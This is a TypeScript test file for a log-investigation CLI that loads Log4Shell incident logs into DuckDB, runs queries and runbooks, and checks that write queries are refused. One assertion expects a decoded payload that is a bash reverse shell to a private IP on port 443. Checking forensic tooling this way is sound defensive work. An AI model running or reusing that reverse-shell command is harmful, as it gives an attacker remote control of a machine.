import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { securityLogsSource } from '../logs/__fixtures__/log4shell-database.js';
import { logsCommand } from './logs-command.js';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'investigator-logs-cli-'));
});
afterAll(async () => {
  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
});
afterEach(() => {
  vi.restoreAllMocks();
  process.exitCode = undefined;
});

async function run(...args: string[]): Promise<{ stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => {
    stdout += String(chunk);
    return true;
  });
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => {
    stderr += String(chunk);
    return true;
  });
  await logsCommand().parseAsync(args, { from: 'user' });
  vi.restoreAllMocks();
  return { stdout, stderr };
}

describe('investigator logs', () => {
  it('loads with progress, lists tables, queries, and refuses a write with exit code 1', async () => {
    const db = join(dir, 'logs.duckdb');
    const load = await run(
      'load',
      '--source',
      securityLogsSource,
      '--db',
      db,
      '--only',
      'log4shell',
      '--json',
    );
    expect(JSON.parse(load.stdout).tables).toHaveLength(5);
    expect(load.stderr).toContain('[5/5] workstation5_security: 39 rows');

    const tables = await run('tables', '--db', db, '--json');
    expect(JSON.parse(tables.stdout).map((table: { name: string }) => table.name)).toContain(
      'ubuntu5_auditd',
    );

    const query = await run(
      'query',
      '--db',
      db,
      'select ProcessName, DestinationPort from ubuntu5_vmconnection order by DestinationPort',
    );
    expect(query.stdout.split('\n')[0]).toBe('ProcessName\tDestinationPort');
    expect(query.stdout).toContain('java\t1389');

    const runbooks = await run('runbooks');
    expect(runbooks.stdout).toContain(
      "service-account-commands-and-connections: A Linux server's commands and outbound connections",
    );
    const shell = await run(
      'runbook',
      'service-account-commands-and-connections',
      '--db',
      db,
      '--json',
      '--max-rows',
      '100',
    );
    expect(
      JSON.parse(shell.stdout).rows.map((row: { decoded_payload: unknown }) => row.decoded_payload),
    ).toContain('bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n');
    const unknown = await run('runbook', 'nope', '--db', db);
    expect(unknown.stderr).toMatch(/no runbook "nope"; expected one of federation-and-mailbox-timeline/);
    expect(process.exitCode).toBe(2);
    process.exitCode = undefined;

    const refused = await run('query', '--db', db, `copy ubuntu5_auditd to '${join(dir, 'out.csv')}'`);
    expect(refused.stderr).toMatch(/^investigator: refused: only SELECT/);
    expect(process.exitCode).toBe(1);
  });
});
